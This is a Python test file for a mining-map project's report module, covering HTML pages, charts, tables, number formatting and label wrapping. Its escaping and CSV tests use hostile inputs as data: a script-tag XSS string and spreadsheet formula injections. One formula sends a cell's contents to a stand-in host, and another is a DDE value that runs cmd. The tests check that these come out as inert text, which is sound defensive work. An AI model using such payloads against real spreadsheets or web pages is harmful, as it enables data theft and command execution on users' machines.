"""Report pages, charts and tables."""

import csv
from html.parser import HTMLParser
from urllib.parse import unquote
from xml.etree import ElementTree

import numpy as np
import pytest
from mine_mapper.core.messages import Given, speaking
from mine_mapper.core.report.charts import new_figure, to_png, to_svg, wide_labels
from mine_mapper.core.report.document import Document, Heading, TableBlock, TitlePage
from mine_mapper.core.report.fitting import fitted, sentences
from mine_mapper.core.report.html import Report, cell_text, plain_cell, png_element, printed, write_csv
from mine_mapper.core.report.page import write_page
from mine_mapper.core.report.vector_chart import plain_fonts


def chart():
    figure, axes = new_figure()
    axes.plot([1, 2, 3], label="矿山")
    axes.legend()
    return to_svg(figure)


def test_page_is_self_contained_and_escaped(tmp_path):
    report = Report("Mines <of> Ili", "synthetic")
    report.warning("<script>alert(1)</script>")
    report.table(["type", "number"], [["coal & lignite", 26], ["unknown", None]], "Table 6")
    report.figure(chart(), "Figure")
    report.figure(png_element(b"\x89PNG"), "Map")
    path = tmp_path / "отчёт.html"
    report.write(str(path))
    text = path.read_text(encoding="utf-8")
    assert "<script" not in text and "coal &amp; lignite" in text and "<svg" in text
    assert "color: #222; background: #fff" in text  # dark letters on the dark ground of a dark theme nobody reads
    assert "http://" not in text.replace("http://www.w3.org", "")


def test_same_chart_same_bytes():
    assert chart() == chart()


def test_cells():
    assert [cell_text(v) for v in (None, np.nan, 12345.6, 0.123456, 26, "x")] == ["–", "–", "12\u202f346", "0.1235", "26", "x"]


def test_csv_keeps_twelve_digits(tmp_path):
    path = tmp_path / "a.csv"
    write_csv(str(path), ["name", "km2"], [["煤", 1 / 3], ["x", None]])
    assert path.read_text(encoding="utf-8-sig") == "name,km2\n煤,0.333333333333\nx,\n"


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ('=HYPERLINK("http://x/"&A1,"click")', '\'=HYPERLINK("http://x/"&A1,"click")'),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-1+1", "'-1+1"),
        ("\tx", "'\tx"),
        ("\n=1+1", "'\n=1+1"),
        ("＝1+1", "'＝1+1"),
        ("-12.5", "-12.5"),
        ("+7", "+7"),
        ("L-1 = A", "L-1 = A"),
        ("'quoted'", "'quoted'"),
        ("", ""),
    ],
)
def test_cells_that_a_spreadsheet_would_run_are_text(tmp_path, text, cell):
    path = str(tmp_path / "t.csv")
    write_csv(path, ["a", text], [(text, -1.5)])
    with open(path, encoding="utf-8-sig", newline="") as stream:
        assert list(csv.reader(stream)) == [["a", cell], [cell, "-1.5"]]
    assert plain_cell(cell) == text


def test_charts_are_images_that_office_programs_draw(tmp_path):
    figure, axes = new_figure()
    axes.plot([1, 2], label='50 % of "A & B" #1')
    axes.legend()
    report = Report("Mines")
    report.figure(to_svg(figure), "Mines & land")
    report.write(str(tmp_path / "a.html"))
    images = []

    class Reader(HTMLParser):
        def handle_starttag(self, tag, attributes):
            assert tag not in ("svg", "path", "text")
            if tag == "img":
                images.append(dict(attributes))

    Reader().feed((tmp_path / "a.html").read_text(encoding="utf-8"))
    (image,) = images
    kind, content = image["src"].split(",", 1)
    root = ElementTree.fromstring(unquote(content))
    texts = list(root.iter("{http://www.w3.org/2000/svg}text"))
    assert kind == "data:image/svg+xml;charset=utf-8" and "#" not in content and image["alt"] == "Mines & land"
    assert '50 % of "A & B" #1' in [text.text for text in texts]
    assert all(float(text.get("font-size")) > 5 and "Open Sans" in text.get("font-family") for text in texts)
    assert float(image["width"]) == pytest.approx(6.4 * 96, abs=1) and float(image["height"]) == pytest.approx(3.4 * 96, abs=1)


@pytest.mark.parametrize(
    "style",
    [
        "font: italic 700 12.5px 'Open Sans', sans-serif; text-anchor: middle",
        "font: 700 italic 12.5px 'Open Sans', sans-serif; text-anchor: middle",
        "font-style: italic; font-weight: 700; font-size: 12.5px; font-family: 'Open Sans', sans-serif; text-anchor: middle",
    ],
)
def test_fonts_of_every_matplotlib_become_the_same_attributes(style):
    svg = plain_fonts(f'<text style="{style}" x="1">Mines</text><path style="fill: none"/>')
    (text, path) = ElementTree.fromstring(f"<svg>{svg}</svg>")
    assert text.attrib == {
        "font-family": "'Open Sans', sans-serif",
        "font-size": "12.5",
        "font-style": "italic",
        "font-weight": "700",
        "stroke": "none",
        "text-anchor": "middle",
        "x": "1",
    }
    assert path.attrib == {"style": "fill: none"}
    plain = ElementTree.fromstring(plain_fonts('<text x="1" style="font: 9px Arial">a</text>', "Noto Sans"))
    assert plain.attrib["font-family"] == "Noto Sans" and plain.attrib["font-weight"] == "400"
    assert plain.attrib["text-anchor"] == "start"


def test_a_title_that_the_heading_says_is_not_said_again(tmp_path):
    report = Report("Title")
    report.heading("Mines in figures")
    report.table(["km2"], [[1]], "Mines in figures")
    report.table(["km2"], [[2]], "Mines in figures")
    report.write(str(tmp_path / "report.html"))
    assert (tmp_path / "report.html").read_text(encoding="utf-8").count("<caption>Mines in figures</caption>") == 1


def ticks_with(picture, language="."):
    """Texts at all axes of a figure with small numbers, names that look like numbers, and a bar of colours, as they are drawn."""
    figure, (left, right) = new_figure(columns=2)
    left.plot([-0.5, 0.5], [0.1, 0.2])
    left.set_xlabel("0.5 km")
    shown = right.imshow(np.array([[0.0, 0.25], [0.5, 0.75]]))
    if picture is to_png:  # as the map of densities has one
        figure.colorbar(shown, ax=right)
    right.set_yticks([0, 1], wide_labels([Given("1.5"), Given("County 2.5")]))
    right.set_xscale("symlog", linthresh=0.1)
    right.xaxis.set_major_formatter("{x:.1f}")
    with speaking(lambda text: {"0.1": f"0{language}1"}.get(text), "ru"):
        picture(figure)
        return [text.get_text() for axes in figure.axes for axis in (axes.xaxis, axes.yaxis) for text in axis.get_ticklabels()]


@pytest.mark.parametrize("picture", [to_svg, to_png])
def test_numbers_at_axes_have_the_decimal_sign_of_the_language(picture):
    """In pictures as in drawings, whatever writes the numbers; names are the user's and stay."""
    names = {"1.5", "County 2.5"}
    points, commas = (ticks_with(picture, language) for language in ".,")
    assert names < set(points) and names < set(commas)
    figures = [text for text in points if "." in text and text not in names]
    assert len(figures) > 10 and "\u22120.4" in figures
    assert [text for text in commas if text not in names] == [text.replace(".", ",") for text in points if text not in names]


def test_names_at_ticks_have_the_signs_of_units():
    assert wide_labels(["0.1 to 0.5 km2"]) == ["0.1 to 0.5 km\u00b2"]


def test_signs_of_per_cent_stand_apart():
    assert [printed(text) for text in ("80%", "of 4.7% and 12 %", "100 %")] == ["80 %", "of 4.7 % and 12 %", "100 %"]


@pytest.mark.parametrize(
    "letters, columns, expected",
    [(8, 5, ' class="whole"'), (10, 11, "whole tight"), (12, 11, "tight wide"), (40, 11, "--letters:7.0pt"), (400, 2, "")],
)
def test_printed_tables_take_the_letters_at_which_no_line_breaks(letters, columns, expected):
    told = fitted(TableBlock(["head"] * columns, [["x" * letters] * columns]))
    assert expected in told and bool(told) == bool(expected)


def test_chinese_letters_count_twice():
    assert fitted(TableBlock(["县"] * 11, [["x" * 10] * 11])) != fitted(TableBlock(["县"] * 11, [["县" * 10] * 11]))


def test_only_the_chapter_after_the_title_page_begins_on_a_new_page(tmp_path):
    document = Document("Mines", "en")
    document.add(TitlePage("Mines", "", [], [], "Contents"))
    document.add(*(Heading(text, new_page=True) for text in ("Findings", "Map", "List")))
    write_page(document, str(tmp_path / "page.html"))
    assert (tmp_path / "page.html").read_text(encoding="utf-8").count('<section class="page">') == 1


def test_the_legend_below_a_map_is_not_cut():
    def height(below):
        figure, axis = new_figure(3, 3)
        axis.plot([0, 1], label="mines")
        axis.set_aspect("equal")
        axis.legend(loc="upper center", bbox_to_anchor=(0.5, below))
        return png_element(to_png(figure)).height

    assert height(-0.8) > height(-0.1) + 5


def test_words_of_the_user_are_never_translated():
    with speaking({"expired": "abgelaufen"}.get):
        assert [cell_text(text) for text in ("expired", Given("expired"))] == ["abgelaufen", "expired"]


def test_sentences_break_where_figures_stay_whole(tmp_path):
    """A table with one column of sentences keeps the size of its letters; only the sentences break."""
    told = "share of the detected area that lies in the reference, by whole groups"
    table = TableBlock(["Measure", "Value", "Meaning"], [["Precision", "52.6 %", told], ["Mine no. 7 in its county", "1", "x"]])
    assert sentences(table) == {2} and fitted(table) == ' class="whole"'
    assert sentences(TableBlock(["含义"], [["图上矿山面积中位于参考矿山面积之内的比例，按组"]])) == {0}
    assert sentences(TableBlock(["File"], [["S2A_MSIL2A_20230812T051651_N9999_R062_T44TQP_20230812T081651.SAFE"]])) == set()
    report = Report("x")
    report.table(table.columns, table.rows)
    report.write(str(tmp_path / "r.html"))
    assert f'<td class="s">{told}</td>' in (tmp_path / "r.html").read_text(encoding="utf-8")


def test_a_long_label_beside_an_axis_takes_several_lines():
    figure, axis = new_figure(6.8, 2.6)
    axis.set(ylabel="Локальная вариация (единицы снимка), среднее")
    to_svg(figure)
    assert axis.get_ylabel().count("\n") == 1
    axis.set(ylabel="Scale")
    to_svg(figure)
    assert axis.get_ylabel() == "Scale"


def test_long_names_at_an_axis_take_two_lines_and_leave_room_for_the_bars():
    long = "Автономный район с необыкновенно длинным названием, в котором несколько слов"
    named, chinese, short, empty = wide_labels(
        [Given(name) for name in (long, "新疆维吾尔自治区伊犁哈萨克自治州阿勒泰地区富蕴县", "Altai", "")]
    )
    assert len(named.split("\n")) == 2 and max(map(len, named.split("\n"))) <= 30 and named.endswith("\u2026")
    assert [line.replace("\u2007", "") for line in chinese.split("\n")] == [
        "新疆维吾尔自治区伊犁哈萨克自治",
        "州阿勒泰地区富蕴县",
    ]
    assert (short, empty) == ("Altai", "")
